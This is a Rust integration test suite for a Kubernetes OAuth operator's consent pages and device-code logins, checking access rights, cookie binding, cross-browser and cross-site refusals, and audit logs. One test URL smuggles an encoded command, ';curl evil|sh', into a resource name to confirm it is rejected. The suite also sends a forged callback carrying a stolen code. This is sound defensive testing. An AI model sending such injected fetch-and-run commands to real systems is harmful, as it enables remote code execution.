//! A person connects an account: in a real browser at a real authorization server, or on another device.

use super::{issuer, story};
use crate::testbed::authorization_server::{AuthorizationServer, Client};
use crate::testbed::aws::Aws;
use crate::testbed::operator::Operator;
use crate::testbed::process::free_port;
use crate::testbed::story::{Story, eventually};
use crate::testbed::{Result, browser, root};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

const SOON: Duration = Duration::from_secs(20);

/// An operator with consent pages, and the right to ask who somebody is.
struct Pages {
    operator: Operator,
    /// Where they are.
    url: String,
}

async fn pages(story: &Story<'_>, identity: &str) -> Result<Pages> {
    let port = free_port()?;
    pages_at(story, identity, &format!("https://127.0.0.1:{port}"), port).await
}

async fn pages_at(story: &Story<'_>, identity: &str, url: &str, port: u16) -> Result<Pages> {
    let text = std::fs::read_to_string(root().join("deploy/consent.yaml"))?;
    let mut objects: Vec<Value> = serde_saphyr::from_multiple(&text)?;
    objects.retain(|object| object["kind"] != json!("Service"));
    for object in &mut objects {
        object["metadata"]["name"] = json!(format!("oauth-operator-consent-{}", story.system));
    }
    objects[1]["roleRef"]["name"] = objects[0]["metadata"]["name"].clone();
    objects[1]["subjects"][0]["namespace"] = json!(story.system);
    story.cluster.kubectl().apply(&json!({"apiVersion": "v1", "kind": "List", "items": objects}).to_string())?;
    let listen = format!("127.0.0.1:{port}");
    let flags = ["--allowed-cidrs", "127.0.0.0/8", "--consent-url", url, "--listen-tls", &listen];
    Ok(Pages { operator: story.operator_with(identity, &flags).await?, url: url.to_owned() })
}

/// A client whose codes go to the pages.
async fn client(story: &Story<'_>, provider: &AuthorizationServer, url: &str, patch: Value) -> Result<Client> {
    let mut metadata = json!({
        "accessTokenTtl": 3600, "token_endpoint_auth_method": "none", "response_types": ["code"],
        "grant_types": ["authorization_code", "refresh_token"], "redirect_uris": [format!("{url}/callback/{}/bot", story.apps)],
    });
    metadata.as_object_mut().ok_or("an object")?.extend(patch.as_object().cloned().unwrap_or_default());
    provider.register_with(&metadata).await
}

fn account(story: &Story<'_>, name: &str, provider: &AuthorizationServer, client: &Client, patch: Value) -> Result<()> {
    let mut from = issuer(provider);
    // oidc-provider gives refresh tokens to those who ask for consent anew (OpenID Connect Core §11).
    from["overrides"] = json!({"parameters": {"authorize": {"prompt": "consent"}}});
    let mut spec = json!({
        "grant": {"clientCredentials": null, "authorizationCode": {}}, "client": {"secretRef": null},
        "scopes": ["openid", "offline_access", "read"],
    });
    spec.as_object_mut().ok_or("an object")?.extend(patch.as_object().cloned().unwrap_or_default());
    story.account_alone(name, &from, client, &spec)
}

/// A ServiceAccount of the tenant's that may do these things to accounts, and its token.
fn person(story: &Story<'_>, name: &str, verbs: &[&str]) -> Result<String> {
    let meta = json!({"name": name});
    let rule = json!({"apiGroups": ["oauth-operator.dev"], "resources": ["oauthaccounts"], "verbs": verbs});
    let rights = "rbac.authorization.k8s.io/v1";
    let items = json!([
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta},
        {"apiVersion": rights, "kind": "Role", "metadata": meta, "rules": [rule]},
        {"apiVersion": rights, "kind": "RoleBinding", "metadata": meta,
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
         "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": story.apps}]},
    ]);
    story.kubectl().apply(&json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string())?;
    Ok(name.to_owned())
}

/// An HTTP client that trusts the operator's own CA, as published, and nothing else.
fn http(story: &Story<'_>) -> Result<reqwest::Client> {
    let kubectl = story.cluster.kubectl().namespaced(&story.system);
    let ca = kubectl.run(&["get", "configmap", "oauth-operator-ca", "-o", r"jsonpath={.data.ca\.crt}"])?;
    let ca = reqwest::Certificate::from_pem_bundle(ca.as_bytes())?;
    Ok(reqwest::Client::builder().tls_certs_only(ca).no_proxy().redirect(reqwest::redirect::Policy::none()).build()?)
}

/// Asks for a link: status and what is said.
async fn ticket(story: &Story<'_>, pages: &Pages, name: &str, who: &str) -> Result<(u16, Value)> {
    let token = story.kubectl().run(&["create", "token", who, "--audience", &pages.url])?;
    ticket_by(story, pages, name, token.trim()).await
}

async fn ticket_by(story: &Story<'_>, pages: &Pages, name: &str, token: &str) -> Result<(u16, Value)> {
    let url = format!("{}/tickets/{}/{name}", pages.url, story.apps);
    let answer = http(story)?.post(url).bearer_auth(token).send().await?;
    Ok((answer.status().as_u16(), serde_json::from_str(&answer.text().await?)?))
}

async fn link(story: &Story<'_>, pages: &Pages, name: &str, token: &str) -> Result<String> {
    let (status, said) = ticket(story, pages, name, token).await?;
    Ok(said["url"].as_str().filter(|_| status == 201).ok_or_else(|| format!("no link: {status} {said}"))?.to_owned())
}

/// What a person does at the provider.
fn log_in(as_whom: &str, answer: &str) -> Vec<Value> {
    vec![json!({"fill": ["Login", as_whom]}), json!({"click": "Sign in"}), json!({"click": answer})]
}

fn steps(first: &[Value], then: Vec<Value>, last: &[Value]) -> Value {
    json!([first, &then, last].concat())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_connects_an_account_in_a_browser_without_javascript() -> Result<()> {
    if !browser::is_here() {
        return Ok(());
    }
    let (story, provider) = story("consent").await?;
    let pages = pages(&story, "operator-1").await?;
    let client = client(&story, provider, &pages.url, json!({})).await?;
    account(&story, "bot", provider, &client, json!({}))?;
    let words = story.until("bot", "Ready", "False", "AuthorizationPending").await?;
    assert!(words.contains(&format!("{}/consent/{}/bot", pages.url, story.apps)), "{words}");
    assert_eq!(provider.token_requests(&client).await?, (0, 0));

    let link = link(&story, &pages, "bot", &person(&story, "alice", &["authorize"])?).await?;
    let first =
        [json!({"open": link}), json!({"judge": true}), json!({"shot": "consent-start"}), json!({"keys": ["Tab", "Enter"]})];
    let last = [json!({"await": "The account is connected"}), json!({"judge": true}), json!({"shot": "consent-connected"})];
    let seen = browser::drive(steps(&first, log_in("alice", "Continue"), &last)).await?;
    assert_eq!(seen["findings"], json!([]), "axe has something to say");
    let ours = pages.url.trim_start_matches("https://");
    let theirs = provider.issuer.trim_start_matches("https://");
    let hosts: Vec<&str> = seen["hosts"].as_array().ok_or("hosts")?.iter().filter_map(Value::as_str).collect();
    assert!(hosts.iter().all(|host| [ours, theirs].contains(host)), "a page asked somebody else: {hosts:?}");
    let policy = seen["headers"]["content-security-policy"].as_str().unwrap_or_default();
    assert!(policy.starts_with("default-src 'none'") && policy.contains("frame-ancestors 'none'"), "{policy}");
    assert!(
        !seen["url"].as_str().unwrap_or_default().contains("code="),
        "the code does not stay in the address: {}",
        seen["url"]
    );
    let cookies = seen["cookies"].as_array().ok_or("cookies")?;
    let bound = cookies.iter().find(|cookie| cookie["name"].as_str().is_some_and(|name| name.starts_with("__Host-consent-")));
    let bound = bound.ok_or("no cookie binds the answer to the browser")?;
    assert_eq!((&bound["httpOnly"], &bound["secure"], &bound["sameSite"]), (&json!(true), &json!(true), &json!("Lax")));

    story.until_ready("bot").await?;
    let token = story.key("bot-token", "access_token")?;
    assert_eq!(provider.introspect(&client, &token).await?["active"], json!(true));
    let status = story.get("bot")?.status.ok_or("no status")?;
    assert_eq!((status.authorization, status.token.map(|token| token.generation)), (None, Some(1)));
    let consents = story.cluster.kubectl().namespaced(&story.system);
    let gone = || {
        Ok(consents.run(&["get", "secrets", "-l", "app.kubernetes.io/component=consent", "-o", "name"])?.is_empty().then_some(()))
    };
    eventually(SOON, gone).await?.ok_or("the code is not deleted once it is redeemed")?;
    story.kubectl().run(&["annotate", "oauthaccount", "bot", "oauth-operator.dev/refresh-requested-at=2026-01-01T00:00:01Z"])?;
    story.until_generation("bot", 2).await?;
    assert_eq!(provider.token_requests(&client).await?, (2, 0), "the code once, the refresh token once");

    let told = |what: &str| {
        let ours = |line: &Value| line["target"] == "audit" && line["what"] == what && line["requestID"].is_string();
        pages.operator.log().into_iter().find(ours)
    };
    let alice = format!("system:serviceaccount:{}:alice", story.apps);
    for what in ["link given out", "login begun", "login came back"] {
        let line = told(what).ok_or_else(|| format!("no audit line: {what}"))?;
        assert_eq!((&line["who"], &line["name"], &line["result"]), (&json!(alice), &json!("bot"), &json!("success")));
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn only_those_who_may_connect_an_account_and_only_in_one_browser() -> Result<()> {
    if !browser::is_here() {
        return Ok(());
    }
    let (story, provider) = story("consent-rights").await?;
    let pages = pages(&story, "operator-1").await?;
    let client = client(&story, provider, &pages.url, json!({})).await?;
    account(&story, "bot", provider, &client, json!({}))?;
    story.until("bot", "Ready", "False", "AuthorizationPending").await?;
    let (viewer, alice) = (person(&story, "viewer", &["get", "list"])?, person(&story, "alice", &["authorize"])?);
    let (status, said) = ticket(&story, &pages, "bot", &viewer).await?;
    assert_eq!(status, 403);
    assert!(said["error"].as_str().is_some_and(|why| why.contains("may not authorize oauthaccounts/bot")), "{said}");
    let log = pages.operator.log();
    let told = log.iter().find(|line| line["target"] == "audit" && line["what"] == "link refused").ok_or("no audit line")?;
    assert!(told["name"] == json!("bot") && told["who"].as_str().is_some_and(|who| who.ends_with(":viewer")), "{told}");
    assert_eq!(ticket_by(&story, &pages, "bot", "not-a-token").await?.0, 401);
    assert_eq!(ticket(&story, &pages, "nobody", &alice).await?.0, 404);
    let whole = story.kubectl().run(&["create", "token", &alice])?;
    assert_eq!(ticket_by(&story, &pages, "bot", whole.trim()).await?.0, 401, "a token that opens the API server is not for us");

    let page = format!("{}/consent/{}/bot", pages.url, story.apps);
    let stranger = browser::drive(json!([{"open": page}, {"judge": true}, {"shot": "consent-without-link"}])).await?;
    let text = stranger["text"].as_str().unwrap_or_default();
    assert!(stranger["status"] == json!(403) && text.contains("kubectl create token"), "{text}");
    let nowhere = browser::drive(json!([{"open": format!("{}/consent/{}/nobody", pages.url, story.apps)}])).await?;
    assert_eq!(nowhere["text"].as_str().map(|text| text.replace("nobody", "bot")), Some(text.to_owned()), "names are not told");

    // A link that is opened does not end; one that is used does.
    let first = link(&story, &pages, "bot", &alice).await?;
    let cancelled = steps(
        &[json!({"open": first}), json!({"open": first}), json!({"click": "Continue to the provider"})],
        log_in("mallory", "Cancel"),
        &[json!({"judge": true}), json!({"shot": "consent-denied"})],
    );
    let seen = browser::drive(cancelled).await?;
    assert!(seen["text"].as_str().is_some_and(|text| text.contains("You said no")), "{}", seen["text"]);
    let again = browser::drive(json!([{"open": first}, {"shot": "consent-used"}])).await?;
    assert!(again["text"].as_str().is_some_and(|text| text.contains("This link does not work any more")), "{}", again["text"]);

    // Begun in one browser, brought to its end in another: the login of the second must not become the account's.
    let second = link(&story, &pages, "bot", &alice).await?;
    let ticket = second.split_once("ticket=").ok_or("no ticket")?.1;
    let begun = http(&story)?.post(&page).header("content-type", "application/x-www-form-urlencoded");
    let begun = begun.body(format!("ticket={ticket}")).send().await?;
    let to_provider = begun.headers()["location"].to_str()?.to_owned();
    assert!(to_provider.starts_with(&provider.issuer) && to_provider.contains("code_challenge_method=S256"), "{to_provider}");
    let moved =
        steps(&[json!({"open": to_provider})], log_in("mallory", "Continue"), &[json!({"shot": "consent-other-browser"})]);
    let seen = browser::drive(moved).await?;
    let text = seen["text"].as_str().unwrap_or_default();
    assert!(text.contains("was not begun in this browser"), "{text}");
    let forged = format!("{}/callback/{}/bot?state=x&code=stolen&iss={}", pages.url, story.apps, provider.issuer);
    assert_eq!(http(&story)?.get(forged).send().await?.status().as_u16(), 403);
    let foreign = http(&story)?
        .post(&page)
        .header("sec-fetch-site", "cross-site")
        .header("content-type", "application/x-www-form-urlencoded");
    assert_eq!(foreign.body("ticket=x").send().await?.status().as_u16(), 403, "another site's form begins nothing");
    let odd = format!("{}/consent/{}/bot%3Bcurl%20evil%7Csh", pages.url, story.apps);
    let odd = http(&story)?.get(odd).send().await?;
    assert_eq!(
        (odd.status().as_u16(), odd.text().await?.contains("curl")),
        (404, false),
        "no command is made of what others wrote"
    );
    assert_eq!(story.condition("bot", "Ready")?.ok_or("no Ready")?.1, "AuthorizationPending");
    assert_eq!(provider.token_requests(&client).await?, (0, 0), "no code was redeemed");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn where_it_is_known_who_must_log_in_no_link_is_needed_and_nobody_else_is_taken() -> Result<()> {
    if !browser::is_here() {
        return Ok(());
    }
    let (story, provider) = story("consent-subject").await?;
    let pages = pages(&story, "operator-1").await?;
    let client = client(&story, provider, &pages.url, json!({})).await?;
    account(&story, "bot", provider, &client, json!({"expectedSubject": "alice"}))?;
    story.until("bot", "Ready", "False", "AuthorizationPending").await?;
    let page = story.get("bot")?.status.and_then(|status| status.authorization?.url).ok_or("no page")?;
    let connect = |whom: &str, last: Vec<Value>| {
        let first = [json!({"open": page}), json!({"click": "Continue to the provider"})];
        steps(&first, log_in(whom, "Continue"), &last)
    };
    let shown = |text: &str, shot: &str| vec![json!({"await": text}), json!({"shot": shot})];
    browser::drive(connect("mallory", shown("The account is not connected", "consent-wrong-person"))).await?;
    let why = story.until("bot", "ReauthorizationRequired", "True", "WrongSubject").await?;
    assert!(why.contains("another user"), "{why}");
    assert!(story.read_secret("bot-token")?.is_none(), "nothing of another person's is published");
    browser::drive(connect("alice", shown("The account is connected", "consent-right-person"))).await?;
    story.until_ready("bot").await?;
    // Pinned: the next login must be the same person's.
    browser::drive(connect("mallory", shown("The account is not connected", "consent-pinned"))).await?;
    assert_eq!(story.condition("bot", "Ready")?.ok_or("no Ready")?.0, "True", "the login before goes on");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_replica_that_does_not_lead_serves_the_pages_and_the_leader_redeems() -> Result<()> {
    if !browser::is_here() {
        return Ok(());
    }
    let (story, provider) = story("consent-replica").await?;
    // People reach the second; the first leads.
    let (first, second) = (free_port()?, free_port()?);
    let url = format!("https://127.0.0.1:{second}");
    let leader = pages_at(&story, "operator-1", &url, first).await?;
    leader.operator.process.until("leading", SOON, async || leader.operator.leads().await).await?;
    let pages = pages_at(&story, "operator-2", &url, second).await?;
    let client = client(&story, provider, &pages.url, json!({})).await?;
    account(&story, "bot", provider, &client, json!({}))?;
    let link = link(&story, &pages, "bot", &person(&story, "alice", &["authorize"])?).await?;
    let begin = [json!({"open": link}), json!({"click": "Continue to the provider"})];
    let done = [json!({"await": "The account is connected"})];
    browser::drive(steps(&begin, log_in("alice", "Continue"), &done)).await?;
    story.until_ready("bot").await?;
    assert!(leader.operator.leads().await && !pages.operator.leads().await);
    let audited =
        |operator: &Operator, what: &str| operator.log().iter().any(|line| line["target"] == "audit" && line["what"] == what);
    assert!(audited(&pages.operator, "login came back") && audited(&leader.operator, "token obtained"));
    assert_eq!(provider.token_requests(&client).await?, (1, 0));
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pushed_request_and_a_signed_client_connect_an_account() -> Result<()> {
    if !browser::is_here() {
        return Ok(());
    }
    let (story, provider) = story("consent-pushed").await?;
    let pages = pages(&story, "operator-1").await?;
    let metadata = json!({"require_pushed_authorization_requests": true, "token_endpoint_auth_method": "client_secret_basic"});
    let client = client(&story, provider, &pages.url, metadata).await?;
    story.secret("bot-client", &[("client_secret", &client.secret)])?;
    let patch = json!({"client": {"secretRef": {"name": "bot-client", "key": "client_secret"}}, "par": true});
    account(&story, "bot", provider, &client, patch)?;
    story.until("bot", "Ready", "False", "AuthorizationPending").await?;
    let link = link(&story, &pages, "bot", &person(&story, "alice", &["authorize"])?).await?;
    let first = [json!({"open": link}), json!({"click": "Continue to the provider"})];
    browser::drive(steps(&first, log_in("alice", "Continue"), &[json!({"await": "The account is connected"})])).await?;
    story.until_ready("bot").await?;
    assert_eq!(provider.token_requests(&client).await?, (1, 0));
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_connects_an_account_whose_tokens_are_bound_to_a_key() -> Result<()> {
    if !browser::is_here() {
        return Ok(());
    }
    let (story, provider) = story("consent-dpop").await?;
    let pages = pages(&story, "operator-1").await?;
    let client = client(&story, provider, &pages.url, json!({"dpop_bound_access_tokens": true, "dpopNonce": true})).await?;
    account(&story, "bot", provider, &client, json!({"dpop": {"algorithm": "ES256"}}))?;
    story.until("bot", "Ready", "False", "AuthorizationPending").await?;
    let link = link(&story, &pages, "bot", &person(&story, "alice", &["authorize"])?).await?;
    let first = [json!({"open": link}), json!({"click": "Continue to the provider"})];
    browser::drive(steps(&first, log_in("alice", "Continue"), &[json!({"await": "The account is connected"})])).await?;
    story.until_ready("bot").await?;
    let key = crate::dpop::used(&story, provider, "bot").await?;
    assert_eq!(provider.token_requests(&client).await?, (1, 1), "the code came again with the nonce, and that alone");
    story.kubectl().run(&["annotate", "oauthaccount", "bot", "oauth-operator.dev/refresh-requested-at=2026-01-01T00:00:01Z"])?;
    story.until_generation("bot", 2).await?;
    assert_eq!(crate::dpop::used(&story, provider, "bot").await?, key);
    Ok(())
}

/// An account of a device.
async fn device(story: &Story<'_>, provider: &AuthorizationServer, patch: Value, metadata: Value) -> Result<Client> {
    let mut wanted = json!({
        "accessTokenTtl": 3600, "token_endpoint_auth_method": "none", "response_types": [], "deviceInterval": 1,
        "grant_types": ["urn:ietf:params:oauth:grant-type:device_code", "refresh_token"], "redirect_uris": [],
    });
    wanted.as_object_mut().ok_or("an object")?.extend(metadata.as_object().cloned().unwrap_or_default());
    let client = provider.register_with(&wanted).await?;
    let mut spec = json!({
        "grant": {"clientCredentials": null, "deviceCode": {}}, "client": {"secretRef": null},
        "scopes": ["openid", "offline_access", "read"],
    });
    spec.as_object_mut().ok_or("an object")?.extend(patch.as_object().cloned().unwrap_or_default());
    story.account_alone("tv", &issuer(provider), &client, &spec)?;
    Ok(client)
}

async fn answer(provider: &AuthorizationServer, code: &str, answer: &str) -> Result<()> {
    let url = format!("{}/testbed/device?user_code={code}&{answer}", provider.issuer);
    let said = provider.http()?.get(url).send().await?.text().await?;
    if said.contains("error") { Err(said.into()) } else { Ok(()) }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_device_s_code_is_shown_to_those_who_may_read_the_token_and_entered_elsewhere() -> Result<()> {
    let (story, provider) = story("device").await?;
    let _operator = story.operator("operator-1").await?;
    let client = device(&story, provider, json!({}), json!({})).await?;
    let words = story.until("tv", "Ready", "False", "AuthorizationPending").await?;
    assert!(words.contains("Secret tv-authorization"), "{words}");
    let authorization = story.get("tv")?.status.and_then(|status| status.authorization).ok_or("no authorization")?;
    assert_eq!(
        (authorization.user_code, authorization.verification_url),
        (None, None),
        "whoever may read it could log in as another"
    );
    let code = story.key("tv-authorization", "user_code")?;
    let owner = story.read_secret("tv-authorization")?.ok_or("gone")?.metadata.owner_references.unwrap_or_default();
    assert_eq!(owner[0].kind, "OAuthAccount");
    tokio::time::sleep(Duration::from_secs(3)).await;
    answer(provider, &code, "subject=alice").await?;
    story.until_ready("tv").await?;
    assert_eq!(provider.introspect(&client, &story.key("tv-token", "access_token")?).await?["sub"], json!("alice"));
    assert_eq!(story.get("tv")?.status.ok_or("no status")?.authorization, None);
    story.kubectl().run(&["annotate", "oauthaccount", "tv", "oauth-operator.dev/refresh-requested-at=2026-01-01T00:00:01Z"])?;
    story.until_generation("tv", 2).await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_code_that_is_denied_or_runs_out_is_asked_for_anew_by_a_person() -> Result<()> {
    let (story, provider) = story("device-denied").await?;
    let _operator = story.operator("operator-1").await?;
    device(&story, provider, json!({"expectedSubject": "alice"}), json!({"deviceCodeTtl": 8})).await?;
    story.until("tv", "Ready", "False", "AuthorizationPending").await?;
    let told = || Ok(story.get("tv")?.status.and_then(|status| status.authorization?.user_code));
    let code = eventually(SOON, told).await?.ok_or("no code")?;
    answer(provider, &code, "deny=1").await?;
    let words = story.until("tv", "ReauthorizationRequired", "True", "Authentication").await?;
    assert!(words.contains("kubectl annotate oauthaccount tv"), "it says what to do: {words}");
    assert_eq!(story.condition("tv", "Stalled")?.ok_or("no Stalled")?.0, "True");
    let ask = |second: u8| {
        let annotation = format!("oauth-operator.dev/refresh-requested-at=2026-01-01T00:00:0{second}Z");
        story.kubectl().run(&["annotate", "--overwrite", "oauthaccount", "tv", &annotation])
    };
    ask(1)?;
    let another = || Ok(story.get("tv")?.status.and_then(|status| status.authorization?.user_code).filter(|now| *now != code));
    eventually(SOON, another).await?.ok_or("no new code")?;
    assert_eq!(story.condition("tv", "Stalled")?, None);
    story.until("tv", "Stalled", "True", "AuthorizationExpired").await?;
    ask(2)?;
    let third = || Ok(story.get("tv")?.status.and_then(|status| status.authorization?.user_code));
    let code = eventually(SOON, third).await?.ok_or("no third code")?;
    answer(provider, &code, "subject=alice").await?;
    story.until_ready("tv").await
}

#[tokio::test(flavor = "multi_thread")]
async fn the_consent_page_of_a_device_shows_code_link_and_drawing() -> Result<()> {
    if !browser::is_here() {
        return Ok(());
    }
    let (story, provider) = story("device-page").await?;
    let pages = pages(&story, "operator-1").await?;
    device(&story, provider, json!({}), json!({})).await?;
    story.until("tv", "Ready", "False", "AuthorizationPending").await?;
    assert!(story.read_secret("tv-authorization")?.is_none(), "where there are pages, they show it");
    let link = link(&story, &pages, "tv", &person(&story, "alice", &["authorize"])?).await?;
    let open = [json!({"open": link}), json!({"shot": "device-start"}), json!({"click": "Show the code"})];
    let looked = steps(&open, vec![], &[json!({"judge": true}), json!({"shot": "device-code"})]);
    let seen = browser::drive(looked).await?;
    assert_eq!(seen["status"], json!(200));
    assert_eq!(seen["findings"], json!([]));
    let text = seen["text"].as_str().unwrap_or_default().to_owned();
    let shown =
        text.lines().find(|line| line.len() == 9 && line.as_bytes()[4] == b'-').ok_or_else(|| format!("no code: {text}"))?;
    answer(provider, shown, "subject=alice").await?;
    story.until_ready("tv").await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_client_registers_itself_at_aws_and_a_login_ends_with_its_registration() -> Result<()> {
    let (story, _) = story("aws").await?;
    let _operator = story.operator("operator-1").await?;
    let aws = Aws::start(50).await?;
    story.ca("aws-ca", &aws.ca)?;
    let at = |path: &str| format!("{}{path}", aws.url);
    let account = json!({
        "apiVersion": "oauth-operator.dev/v1alpha1", "kind": "OAuthAccount", "metadata": {"name": "q"},
        "spec": {
            "provider": {"preset": "AWSSSO", "caBundleRef": {"name": "aws-ca"}, "overrides": {
                "tokenURL": at("/token"), "deviceAuthorizationURL": at("/device_authorization"),
                "registrationURL": at("/client/register"),
                "parameters": {"device": {"startUrl": "https://view.awsapps.com/start"}}}},
            "grant": {"deviceCode": {}},
            "scopes": ["codewhisperer:completions", "codewhisperer:analysis"],
        }
    });
    let registered = Instant::now();
    story.kubectl().apply(&account.to_string())?;
    story.until("q", "Ready", "False", "AuthorizationPending").await?;
    let registration = &aws.registrations()[0];
    assert_eq!(registration["scopes"], json!(["codewhisperer:completions", "codewhisperer:analysis"]));
    assert!(registration["clientName"].as_str().is_some_and(|name| name.contains("/q")), "{registration}");
    assert_eq!(aws.authorizations()[0]["startUrl"], json!("https://view.awsapps.com/start"));
    assert!(aws.authorizations()[0]["scope"].is_null(), "scopes were settled at registration");
    assert_eq!(story.key("q-authorization", "user_code")?, "ABCD-EFGH");
    let twice = || Ok((aws.polled().len() >= 2).then_some(()));
    eventually(SOON, twice).await?.ok_or("it is not polled again")?;
    let pause = aws.polled()[1].duration_since(aws.polled()[0]);
    assert!(pause >= Duration::from_secs(6), "an interval of one second and five more for slow_down: {pause:?}");
    aws.approve();
    story.until_ready("q").await?;
    let refresh = |second: u8| {
        let annotation = format!("oauth-operator.dev/refresh-requested-at=2026-01-01T00:00:0{second}Z");
        story.kubectl().run(&["annotate", "--overwrite", "oauthaccount", "q", &annotation])
    };
    refresh(1)?;
    story.until_generation("q", 2).await?;
    assert_eq!((aws.registrations().len(), aws.reused()), (1, 0), "the same client refreshes");
    let login = story.get("q")?.status.and_then(|status| status.login).ok_or("no login")?;
    assert!(login.expiration_time.is_some(), "that it ends with its registration is known");
    let due = || Ok(story.condition("q", "ReauthorizationDue")?.map(drop));
    eventually(Duration::from_secs(60), due).await?.ok_or("that the login ends soon is not said")?;
    tokio::time::sleep(Duration::from_secs(54).saturating_sub(registered.elapsed())).await;
    // The client has ended: another is registered, and a person must consent to it.
    refresh(2)?;
    let another = || Ok((aws.registrations().len() == 2).then_some(()));
    eventually(SOON, another).await?.ok_or("no second registration")?;
    let asked = || Ok((aws.authorizations().len() == 2).then_some(()));
    eventually(SOON, asked).await?.ok_or("no second code")?;
    assert_eq!(story.condition("q", "Ready")?.ok_or("no Ready")?.0, "True", "the token outlives its client");
    aws.approve();
    story.until_generation("q", 3).await?;
    assert_eq!(aws.reused(), 0, "a refresh token is not sent by another client");
    Ok(())
}
